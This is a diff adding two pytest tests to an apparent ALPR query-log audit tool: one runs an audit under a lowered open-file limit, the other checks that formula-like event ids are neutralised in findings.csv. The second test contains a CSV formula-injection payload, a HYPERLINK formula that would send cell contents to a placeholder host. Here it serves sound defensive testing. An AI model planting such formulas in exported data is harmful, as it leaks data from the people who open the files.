@@ -216,6 +216,24 @@ class TestBadInput:
         assert figures["totals"]["events"] == len(GRAPH_ROWS) - 1
         assert "Malformed records: 1" in (tmp_path / "out" / "report.html").read_text()
 
+    @pytest.mark.parametrize("parallel", [False, True])
+    def test_more_files_than_the_open_file_limit(self, engine: Engine, tmp_path: Path, parallel: bool) -> None:
+        """An audit over more files than the process may hold open (1,024 is common) judges every one."""
+        import resource
+
+        paths = []
+        for index in range(300):
+            path = tmp_path / f"day-{index:03d}.jsonl"
+            path.write_text(query(f"e{index}", {"agency": "FBI"}, "burglary", PLATES[0]) + "\n")
+            paths.append(path)
+        soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
+        resource.setrlimit(resource.RLIMIT_NOFILE, (256, hard))
+        try:
+            figures = audit(engine, paths, tmp_path / "out", parallel=parallel)
+        finally:
+            resource.setrlimit(resource.RLIMIT_NOFILE, (soft, hard))
+        assert figures["totals"]["events"] == 300
+
     def test_cli_exit_status(self, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
         """The command exits 1 with findings, 0 without, and 2 when a file cannot be used."""
         monkeypatch.setenv("ALPR_PSEUDONYM_KEY", KEY.decode())
@@ -413,6 +431,15 @@ class TestText:
             requesters = Counter(row["requester"] for row in csv.DictReader(handle))
         assert '\'=HYPERLINK("x") PD' in requesters
         assert not any(name.startswith("=") for name in requesters)
+
+    def test_formula_event_id_inert_in_findings_csv(self, engine: Engine, tmp_path: Path) -> None:
+        """An event id written like a formula reaches findings.csv with a leading quote, as agency names do."""
+        path = tmp_path / "events.jsonl"
+        path.write_text(query('=HYPERLINK("http://x/"&A1)', {"agency": "FBI"}, "burglary", PLATES[0]) + "\n")
+        audit(engine, [path], tmp_path / "out")
+        with (tmp_path / "out" / "findings.csv").open(encoding="utf-8", newline="") as handle:
+            event_ids = {row["event_id"] for row in csv.DictReader(handle)}
+        assert event_ids == {'\'=HYPERLINK("http://x/"&A1)'}
 
     def test_md_text(self) -> None:
         """Untrusted text cannot break a Markdown table or inject HTML."""
